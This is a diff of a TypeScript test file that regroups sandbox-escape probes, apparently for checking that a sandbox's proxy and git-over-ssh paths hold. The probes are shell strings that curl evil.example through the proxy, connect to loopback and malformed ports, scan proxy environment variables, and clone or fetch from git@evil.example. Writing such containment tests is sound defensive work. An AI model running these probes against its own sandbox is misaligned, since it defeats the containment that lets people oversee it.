@@ -41,7 +41,7 @@ async function withRemote(terminal: Terminal, world: World, command: string, env
 /** Words for the shim as git gives them. */
 const shim = (...words: readonly string[]): string => `/run/hermes/bin/git-ssh ${words.map((word) => `'${word}'`).join(' ')} </dev/null`;
 
-const byTheProxyOne: EscapeTheme = ({ port, key }) => ({
+const hostsByTheProxy: EscapeTheme = ({ port, key }) => ({
   'a host nobody agreed to': `curl -sS -m5 -x http://${PROXY} http://evil.example/?x=1; curl -sSk -m5 -x http://${PROXY} https://evil.example/; curl -sS -m5 --socks5-hostname ${PROXY} http://evil.example/; true`,
   'the host’s loopback by the proxy': connect(
     `127.0.0.1:${port}`,
@@ -116,7 +116,7 @@ const byTheProxyOne: EscapeTheme = ({ port, key }) => ({
   ),
 });
 
-const byTheProxyTwo: EscapeTheme = ({ port }) => ({
+const proxyAsTarget: EscapeTheme = ({ port }) => ({
   'targets that are no hosts': connect(
     `evil.example:0`,
     `evil.example:99999`,
@@ -183,6 +183,9 @@ for p in (14128,${GIT_SSH}):
     except OSError as e: print(e)`)}
 done`,
   'a program the owner’s own proxy settings lead to': `env | grep -i _proxy= | grep -v USE_ENV | grep -v 127.0.0.1 | grep -v localhost && ${WON}; true`,
+});
+
+const gitOverSsh: EscapeTheme = ({ mark, project }) => ({
   'git over ssh to another host': {
     only: 'attended',
     tries: (terminal, world) =>
@@ -192,9 +195,6 @@ done`,
         `git clone git@evil.example:x/y.git; git remote set-url origin git@evil.example:x/y.git; git fetch origin; ${shim('git@evil.example', "git-upload-pack '\\''x/y.git'\\''")}`,
       ),
   },
-});
-
-const byTheProxyThree: EscapeTheme = ({ mark, project }) => ({
   'git over ssh to another repository of the same host': {
     only: 'attended',
     tries: (terminal, world) =>
@@ -281,8 +281,8 @@ const byTheProxyFour: EscapeTheme = ({ mark, home }) => ({
 
 /** To get out by the ways that are there for it: the proxy, and git over ssh. */
 export const byTheProxy: EscapeTheme = (world) => ({
-  ...byTheProxyOne(world),
-  ...byTheProxyTwo(world),
-  ...byTheProxyThree(world),
+  ...hostsByTheProxy(world),
+  ...proxyAsTarget(world),
+  ...gitOverSsh(world),
   ...byTheProxyFour(world),
 });
